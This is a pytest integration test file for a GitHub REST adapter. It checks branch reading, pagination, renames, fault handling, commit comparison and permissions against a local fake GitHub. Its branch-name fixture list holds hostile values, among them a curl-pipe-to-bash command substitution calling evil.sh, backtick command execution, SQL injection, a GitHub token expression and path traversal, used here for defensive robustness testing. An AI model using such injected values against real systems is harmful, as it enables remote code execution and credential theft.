"""Repositories and branches as the adapter reads them."""

import os
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from app.core.errors import Forbidden, GitHubUnavailable
from app.core.identifiers import BranchName, CommitSha, InstallationId
from app.core.repositories import Ancestry, ChangedFiles
from app.core.repositories import Repository as Known
from app.github.adapter import RestGitHub
from demo.github import faults
from demo.github.model import Installation, Repository
from demo.github.server import LocalGitHub
from tests.integration.github.conftest import known_as

HOSTILE_BRANCHES = [
    "feature/login",
    "$(curl${IFS}evil.sh|bash)",
    "`id`",
    "');--",
    "${{github.token}}",
    "%2e%2e",
    "a%2Fb",
    "-rf",
    "--help",
    "HEAD",
    "user@host/db",
    "ünïcode/日本語",
    "\u202egnp",
    "\u200b",
    "a&b=c;d",
    'quo"te',
    "hash#tag",
    "plus+sign",
]


def test_a_repository_is_read_with_its_live_names(
    adapter: RestGitHub, shop: Repository, installation: Installation, known: Known
) -> None:
    read = adapter.repository(InstallationId(installation.id), "acme/shop")

    assert read == known


def test_an_empty_repository_has_no_branches_and_is_no_failure(
    adapter: RestGitHub, shop: Repository, known: Known
) -> None:
    for branch in shop.git.branches():
        shop.git.delete_branch(branch)

    assert adapter.branches(known) == []


def test_a_renamed_repository_is_found_by_its_former_name(
    github: LocalGitHub, adapter: RestGitHub, shop: Repository, known: Known
) -> None:
    github.rename(shop, "store")

    read = adapter.repository(known.installation_id or InstallationId(0), "acme/shop")

    assert read is not None
    assert read.full_name == "acme/store"


def test_a_repository_that_nobody_has_is_none(
    adapter: RestGitHub, installation: Installation
) -> None:
    assert adapter.repository(InstallationId(installation.id), "acme/nothing") is None


@pytest.mark.parametrize("name", HOSTILE_BRANCHES)
def test_a_branch_of_any_name_is_read_with_its_head(
    github: LocalGitHub, adapter: RestGitHub, shop: Repository, known: Known, name: str
) -> None:
    sha = github.push(shop, name)

    branch = adapter.branch(known, BranchName(name))

    assert branch is not None
    assert (branch.name, branch.head_sha) == (name, sha)


@pytest.mark.parametrize("name", ["gone", "feature/gone", "..", ".", "a/../main", "%00", "a b"])
def test_a_branch_that_is_not_there_is_none_or_unavailable_but_never_another_one(
    adapter: RestGitHub, known: Known, name: str
) -> None:
    try:
        branch = adapter.branch(known, BranchName(name))
    except GitHubUnavailable:
        branch = None

    assert branch is None


def test_a_404_of_a_branch_counts_only_when_the_repository_is_seen(
    github: LocalGitHub, adapter: RestGitHub, shop: Repository, known: Known
) -> None:
    github.faults.plan(faults.not_found(), path="/repos/", times=2)

    with pytest.raises(GitHubUnavailable):
        adapter.branch(known, BranchName("main"))


def test_a_branch_renamed_at_github_is_gone_under_its_former_name(
    github: LocalGitHub, adapter: RestGitHub, shop: Repository, known: Known
) -> None:
    github.create_branch(shop, "old")
    github.rename_branch(shop, "old", "new")

    assert adapter.branch(known, BranchName("old")) is None


def test_all_branches_come_over_several_pages(
    github: LocalGitHub, adapter: RestGitHub, shop: Repository, known: Known
) -> None:
    names = {f"topic-{number:03}" for number in range(250)}
    github.create_branches(shop, sorted(names))

    branches = adapter.branches(known)

    assert {branch.name for branch in branches} == names | {"main"}


def test_all_branches_of_a_renamed_repository_come_too(
    github: LocalGitHub, adapter: RestGitHub, shop: Repository, known: Known
) -> None:
    github.create_branches(shop, [f"topic-{number:03}" for number in range(120)])
    github.rename(shop, "store")

    assert len(adapter.branches(known)) == 121


@pytest.mark.parametrize(
    "fault",
    [
        faults.empty_list(),
        faults.not_found(),
        faults.html(),
        faults.truncated(),
        faults.server_error(500),
    ],
    ids=["empty", "404", "html", "truncated", "500"],
)
@pytest.mark.parametrize("page", ["branches\\?per_page", "page=2"])
def test_a_list_of_branches_that_is_not_whole_is_never_an_answer(
    *,
    github: LocalGitHub,
    adapter: RestGitHub,
    shop: Repository,
    known: Known,
    fault: faults.Fault,
    page: str,
) -> None:
    github.create_branches(shop, [f"a-{number:03}" for number in range(150)])
    github.faults.plan(fault, path=page, times=9)

    with pytest.raises(GitHubUnavailable):
        adapter.branches(known)


def test_a_name_that_another_repository_took_is_refused(
    github: LocalGitHub, adapter: RestGitHub, shop: Repository, known: Known
) -> None:
    github.rename(shop, "store")
    github.create_repository("acme/shop", private=False)

    for read in (
        lambda: adapter.branch(known, BranchName("main")),
        lambda: adapter.branches(known),
        lambda: adapter.compare(known, base=CommitSha("a" * 40), head=CommitSha("b" * 40)),
    ):
        with pytest.raises(Forbidden, match="another repository"):
            read()


def test_commits_are_compared_as_git_does(
    github: LocalGitHub, adapter: RestGitHub, shop: Repository, known: Known
) -> None:
    first = CommitSha(github.branch_head(shop, "main") or "")
    second = CommitSha(github.push(shop, "main"))
    aside = CommitSha(github.push(shop, "aside"))
    third = CommitSha(github.push(shop, "main"))

    assert adapter.compare(known, base=first, head=second) is Ancestry.AHEAD
    assert adapter.compare(known, base=second, head=first) is Ancestry.BEHIND
    assert adapter.compare(known, base=third, head=aside) is Ancestry.DIVERGED
    assert adapter.compare(known, base=third, head=third) is Ancestry.IDENTICAL
    assert adapter.compare(known, base=CommitSha("a" * 40), head=third) is Ancestry.UNKNOWN
    assert adapter.commits_between(known, base=first, head=third) == frozenset([second, third])
    assert adapter.commits_between(known, base=third, head=aside) == frozenset([aside])
    assert adapter.commits_between(known, base=third, head=first) == frozenset()
    assert adapter.commits_between(known, base=CommitSha("a" * 40), head=third) is None


def test_a_failing_comparison_is_not_unknown(
    github: LocalGitHub, adapter: RestGitHub, shop: Repository, known: Known
) -> None:
    head = CommitSha(github.branch_head(shop, "main") or "")
    github.faults.plan(faults.not_found(), times=9, path="/repos/")

    with pytest.raises(GitHubUnavailable):
        adapter.compare(known, base=head, head=head)


def test_the_files_are_told_that_a_head_changed_since_it_left_its_base(
    github: LocalGitHub, adapter: RestGitHub, shop: Repository, known: Known
) -> None:
    """Not what came to the base meanwhile; where a renamed one is now."""
    main = BranchName("main")
    script = "CREATE TABLE users (id int);\n" * 9
    files = {"db/1 ü.sql": script, "db/2.sql": "", "old.bin": "\0"}
    before = CommitSha(github.push(shop, "main", files=files))
    changes = {"db/3.sql": "b", "db/1 ü.sql": None, "db/moved.sql": script, "old.bin": None}
    head = CommitSha(github.push(shop, "aside", files=changes))
    many = {f"many/{number:03}": str(number) for number in range(301)}
    later = CommitSha(github.push(shop, "main", files=many))

    changed = adapter.changed_files(known, base=main, head=head)

    assert changed == ChangedFiles(
        paths=("db/3.sql", "db/moved.sql"), added=("db/3.sql",), removed=("old.bin",)
    )
    assert adapter.changed_files(known, base=before, head=before) == ChangedFiles()
    assert adapter.changed_files(known, base=BranchName("gone"), head=head) is None
    cut = adapter.changed_files(known, base=before, head=later)
    assert cut is not None
    assert len(cut.paths) == 300


@pytest.mark.parametrize("role", ["admin", "maintain", "write", "triage", "read"])
def test_a_collaborators_role_is_told_exactly(
    github: LocalGitHub, adapter: RestGitHub, shop: Repository, known: Known, role: str
) -> None:
    user = github.grant(shop, "hubot", role)

    assert adapter.permission(known, login="hubot", user_id=user.id) == role


def test_a_login_that_somebody_else_has_now_may_nothing(
    github: LocalGitHub, adapter: RestGitHub, shop: Repository, known: Known
) -> None:
    user = github.grant(shop, "hubot", "admin")

    assert adapter.permission(known, login="hubot", user_id=user.id + 1) == "none"


def test_a_stranger_and_a_bot_may_nothing(
    github: LocalGitHub, adapter: RestGitHub, shop: Repository, known: Known
) -> None:
    github.account("coppice[bot]", type="Bot")

    assert adapter.permission(known, login="nobody", user_id=1) == "none"
    assert adapter.permission(known, login="coppice[bot]", user_id=1) == "none"


def test_a_repository_without_installation_is_refused_before_asking(
    adapter: RestGitHub, shop: Repository, installation: Installation
) -> None:
    known = known_as(shop, installation)
    orphan = replace(known, installation_id=None)

    with pytest.raises(Forbidden, match="not installed"):
        adapter.branches(orphan)


def test_protected_branches_are_asked_for_alone(
    github: LocalGitHub, adapter: RestGitHub, shop: Repository, known: Known
) -> None:
    for name in ("release", "free"):
        github.push(shop, name)
    github.protect(shop, "release")

    assert adapter.protected_branches(known) == {"release"}


def test_ctrl_c_in_the_terminal_of_the_local_github_does_not_reach_its_git(
    github: LocalGitHub, shop: Repository, tmp_path: Path
) -> None:
    seen = tmp_path / "group"
    hook = shop.git.path / "hooks" / "reference-transaction"
    hook.write_text(
        f"#!{sys.executable}\nimport os\nopen({str(seen)!r}, 'w').write(str(os.getpgrp()))\n"
    )
    hook.chmod(0o755)

    github.create_branch(shop, "topic")

    assert int(seen.read_text()) != os.getpgrp()
